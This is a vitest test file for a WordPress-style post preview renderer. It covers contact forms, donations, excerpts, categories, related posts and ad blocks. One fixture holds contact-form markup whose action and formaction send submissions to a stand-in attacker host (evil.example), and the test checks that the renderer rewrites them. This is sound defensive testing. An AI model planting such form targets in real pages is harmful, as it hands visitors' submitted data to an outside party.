import { createApi } from '@blockyard/api-client';
import { afterEach, describe, expect, it } from 'vitest';

import { renderPreview } from './render-preview';

afterEach(() => {
	document.body.innerHTML = '';
});

const json = (body: unknown) =>
	new Response(JSON.stringify(body), { status: 200, headers: { 'Content-Type': 'application/json' } });

/**
 * A site whose only post, 7, holds `raw`, whose language is `language`, and whose post 7
 * has `related` as its related posts.
 */
function siteWith(
	raw: string,
	{
		language = 'en_US',
		related = [] as unknown[],
		details = {} as Record<string, unknown>,
		terms = {} as Record<string, unknown[]>,
	} = {}
) {
	const post = {
		id: 7,
		status: 'publish',
		modified: '2026-01-01T00:00:00',
		title: { raw: 'Contact' },
		content: { raw, rendered: '' },
		...details,
	};
	const settings = {
		title: 'Site',
		language,
		start_of_week: 1,
		time_format: 'H:i',
		date_format: 'j F Y',
		timezone: 'UTC',
	};
	return createApi({
		root: 'https://site.example/wp-json/',
		fetch: async (input) => {
			const url = new URL(input instanceof Request ? input.url : String(input));
			if (url.pathname.endsWith('/wp/v2/settings')) {
				return json(settings);
			}
			const taxonomy = /\/wp\/v2\/(tags|categories)$/.exec(url.pathname)?.[1];
			if (taxonomy !== undefined) {
				const wanted = url.searchParams.getAll('include[]').map(Number);
				const all = (terms[taxonomy] ?? []) as { id: number }[];
				return json(all.filter((term) => wanted.includes(term.id)));
			}
			return json(url.searchParams.has('_fields') ? { id: 7, 'jetpack-related-posts': related } : post);
		},
	});
}

describe('renderPreview', () => {
	it('gives each contact form the action of its own route on the site, whatever the markup says', async () => {
		const container = document.createElement('div');
		document.body.append(container);
		const api = siteWith(
			'<form class="wp-block-blockyard-contact-form" method="post" data-blockyard-form="k3j9x0qa"></form>' +
				'<form class="wp-block-blockyard-contact-form" method="post" action="https://evil.example/collect" data-blockyard-form="z9y8x7w6"><button type="submit" formaction="https://evil.example/b">Send</button></form>'
		);

		await renderPreview({ api, postId: 7, container });

		const actions = Array.from(container.querySelectorAll('form')).map((form) =>
			form.getAttribute('action')
		);
		expect(actions).toEqual([
			'https://site.example/wp-json/blockyard/v1/forms/k3j9x0qa/responses',
			'https://site.example/wp-json/blockyard/v1/forms/z9y8x7w6/responses',
		]);
		expect(container.querySelector('[formaction]')).toBeNull();
	});

	it('gives each donations block the provider’s checkout address', async () => {
		const container = document.createElement('div');
		document.body.append(container);
		const api = siteWith(
			'<!-- wp:blockyard/donations --><div class="wp-block-blockyard-donations" data-currency="USD"></div><!-- /wp:blockyard/donations -->'
		);

		await renderPreview({ api, postId: 7, container });

		expect(
			container.querySelector<HTMLElement>('.wp-block-blockyard-donations')?.dataset['checkout']
		).toBe('https://site.example/wp-json/wpcom/v2/memberships/checkout');
	});
});

describe("renderPreview of the post's summary", () => {
	it('shows the excerpt under the title, then the names of its categories and tags', async () => {
		const container = document.createElement('div');
		const api = siteWith('<!-- wp:paragraph --><p>Body</p><!-- /wp:paragraph -->', {
			details: {
				excerpt: { raw: 'Tram 28 <b>& custard</b>', rendered: '' },
				tags: [12],
				categories: [4, 2],
			},
			terms: {
				categories: [
					{ id: 2, name: 'News', slug: 'news' },
					{ id: 4, name: 'Travel', slug: 'travel' },
					{ id: 1, name: 'Uncategorized', slug: 'uncategorized' },
				],
				tags: [{ id: 12, name: 'Lisbon', slug: 'lisbon' }],
			},
		});

		await renderPreview({ api, postId: 7, container });

		expect(Array.from(container.children).map((child) => child.className)).toEqual([
			'blockyard-preview__title',
			'blockyard-preview__excerpt',
			'blockyard-preview__categories',
			'blockyard-preview__tags',
			'blockyard-preview__content entry-content',
		]);
		// The author's text, as text.
		expect(container.querySelector('.blockyard-preview__excerpt')?.textContent).toBe(
			'Tram 28 <b>& custard</b>'
		);
		expect(container.querySelector('.blockyard-preview__categories')?.textContent).toBe(
			'Categories: News, Travel'
		);
		expect(container.querySelector('.blockyard-preview__tags')?.textContent).toBe('Tags: Lisbon');
	});

	it('shows none of them for a post without them, or when the terms cannot be read', async () => {
		const container = document.createElement('div');
		const api = siteWith('', {
			details: { excerpt: { raw: '  ', rendered: '' }, tags: [3], categories: [] },
		});
		await renderPreview({ api, postId: 7, container });
		expect(Array.from(container.children).map((child) => child.className)).toEqual([
			'blockyard-preview__title',
			'blockyard-preview__content entry-content',
		]);
	});
});

describe('renderPreview of dynamic blocks', () => {
	const related = [
		{ id: 8, url: 'https://site.example/?p=8', title: 'Sourdough starter', date: '2026-11-02T09:00:00' },
		{ id: 9, url: 'https://site.example/?p=9', title: 'Rye bread', date: '2026-10-01T09:00:00' },
	];

	it('renders Related Posts from the post’s related posts, with dates in the site’s language', async () => {
		const container = document.createElement('div');
		const api = siteWith(
			'<!-- wp:paragraph --><p>Before</p><!-- /wp:paragraph -->\n\n<!-- wp:blockyard/related-posts {"postLayout":"list"} /-->',
			{ language: 'de_DE', related }
		);

		await renderPreview({ api, postId: 7, container });

		const block = container.querySelector('.wp-block-blockyard-related-posts');
		expect(block?.classList.contains('is-list')).toBe(true);
		expect(Array.from(block?.querySelectorAll('h3 a') ?? []).map((link) => link.textContent)).toEqual([
			'Sourdough starter',
			'Rye bread',
		]);
		expect(block?.querySelector('time')?.textContent).toBe('2. November 2026');
		expect(container.querySelector('p')?.textContent).toBe('Before');
		expect(container.innerHTML).not.toContain('wp:');
	});

	it('renders nothing for the block when the site has no related posts', async () => {
		const container = document.createElement('div');
		await renderPreview({ api: siteWith('<!-- wp:blockyard/related-posts /-->'), postId: 7, container });
		expect(container.querySelector('.blockyard-preview__content')?.innerHTML).toBe('');
	});

	const AD =
		'<!-- wp:blockyard/ad {"format":"leaderboard"} --><div class="wp-block-blockyard-ad aligncenter is-format-leaderboard"><div class="wp-block-blockyard-ad__slot" style="width:728px;height:90px"></div></div><!-- /wp:blockyard/ad -->';

	it('fills each ad block’s slot with the ad network’s unit from the provider’s root', async () => {
		const container = document.createElement('div');
		await renderPreview({ api: siteWith(AD), postId: 7, container });
		const frame = container.querySelector<HTMLIFrameElement>('.wp-block-blockyard-ad__slot > iframe');
		expect([frame?.width, frame?.height]).toEqual(['728', '90']);
		expect(frame?.src).toMatch(
			new RegExp(
				`^${new URL('/wp-json/', document.baseURI).href}ads/v1/unit\\?format=leaderboard&view=[\\w-]+$`
			)
		);
	});

	it('takes the ad blocks out on a site without ads', async () => {
		const container = document.createElement('div');
		await renderPreview({ api: siteWith(AD), postId: 7, container, adsEnabled: false });
		expect(container.querySelector('.wp-block-blockyard-ad')).toBeNull();
	});
});
